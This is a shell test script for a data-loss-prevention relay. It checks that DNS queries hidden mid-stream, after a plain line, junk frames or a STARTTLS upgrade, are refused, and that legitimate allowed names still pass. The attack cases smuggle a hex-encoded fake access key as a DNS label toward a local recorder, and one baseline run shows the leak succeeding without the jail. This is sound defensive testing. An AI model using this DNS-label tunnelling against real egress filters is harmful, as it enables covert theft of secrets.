#!/bin/sh
# 425-relay-dns-mid: DNS query frames that do not open the stream (branch
# egress-gaps5). 410's framing test looked at a stream's first bytes only:
# "HELLO\r\n" first, or a first frame a resolver rejects and reads past (a
# response frame: FORMERR, then the next length), or a STARTTLS-like
# upgrade before DNS over TLS, and every later query went unjudged, so
# "<hex of a token>.x.allowed.test" reached the name server behind an
# allowed port. Now (relay_scan.c rl_dns_mid) a query header at any offset
# of a stream that is not DNS from its start is judged by its question
# before a byte of the name leaves (the bytes from the header held until
# the question is in), and TLS after plaintext starts a stream of its own
# (DNS framing at its start: every message judged). Attacks: written
# whole, with the cut inside the header, one byte a write; plain TCP and
# the key path (python3's hooked OpenSSL). Legitimate: allowed names
# through the same framing, a binary HTTP body with header look-alikes.
. "$(dirname "$0")/lib.sh"
. "$top_srcdir/t/tls/lib-tls.sh"
need_relay
make_ca

C="python3 $top_srcdir/t/e2e/dns_mid.py"
start_server recsrv.py 127.0.0.1 rec
python3 "$top_srcdir/t/e2e/tls_rec.py" 127.0.0.1 "$T/trec.port" "$T/trec.log" \
	"$T/pki/server.pem" "$T/pki/server.key" &
PIDS="$PIDS $!"
i=0
while [ ! -s "$T/trec.port" ] && [ $i -lt 100 ]; do sleep 0.05; i=$((i + 1)); done
TPORT=$(cat "$T/trec.port") TLOG=$T/trec.log
touch "$TLOG"
HEX=414b49415a3751483358354c5441484a4b4c
J="--no-default-policy --relay --allow 127.0.0.1 --allow *.allowed.test --log $T/events.jsonl -q"
run() {
	: > "$rec_LOG"
	: > "$TLOG"
	: > "$T/events.jsonl"
	out=$(timeout 20 "$DLPJAIL" $J -- $C "$@" 2>&1)
	sleep 0.3
}

# without the jail the leak is real: the recorder gets the label
out=$($C line "$rec_PORT" "$CA" whole "$HEX.x.allowed.test" 2>&1)
sleep 0.2
check "bare: the query after a line reaches the recorder ($out)" grep -q "$HEX" "$rec_LOG"

for mode in line junk; do
	for how in whole split bytes; do
		run $mode "$rec_PORT" "$CA" $how www.allowed.test "$HEX.x.allowed.test"
		check "plain $mode $how: the exfiltration label never arrives ($out)" \
			sh -c "! grep -q '$HEX' '$rec_LOG'"
		# split writes get answers of their own: the refusal shows at once
		# only when a query is one write
		[ $how = whole ] &&
			check "plain $mode $how: refused at the second query" has "$out" 'refused at 2'
		check "...a deny event for the query" \
			event_has '"verdict":"deny"' '"op":"resolve"' 'allowed.test'
		check "...the name shown redacted" sh -c "! grep -q '$HEX' '$T/events.jsonl'"
	done
done
for mode in starttls starttls0; do
	for how in whole split; do
		run $mode "$TPORT" "$CA" $how www.allowed.test "$HEX.x.allowed.test"
		check "TLS after STARTTLS ($mode $how): the label never arrives ($out)" \
			sh -c "! grep -q '$HEX' '$TLOG'"
		[ $how = whole ] && check "...refused at the second query" has "$out" 'refused at 2'
		check "...a deny event for the query" \
			event_has '"verdict":"deny"' '"op":"resolve"' 'allowed.test'
		check "...the name shown redacted" sh -c "! grep -q '$HEX' '$T/events.jsonl'"
	done
done

# legitimate counterparts
run line "$rec_PORT" "$CA" split www.allowed.test api.allowed.test
check "plain line: ordinary allowed names arrive ($out)" has "$out" 'sent 2'
check "...both in the recorder" sh -c "grep -q 'api' '$rec_LOG' && ! grep -q deny '$T/events.jsonl'"
run starttls "$TPORT" "$CA" whole www.allowed.test api.allowed.test
check "TLS after STARTTLS: ordinary allowed names arrive ($out)" has "$out" 'sent 2'
run line "$rec_PORT" "$CA" whole www.other.test
check "plain line: a name the policy does not allow is refused ($out)" has "$out" 'refused at 1'
run blob "$rec_PORT" "$CA" whole
check "a binary body with query-header look-alikes arrives ($out)" has "$out" 'sent 1'
check "...no deny event" sh -c "! grep -q deny '$T/events.jsonl'"
finish
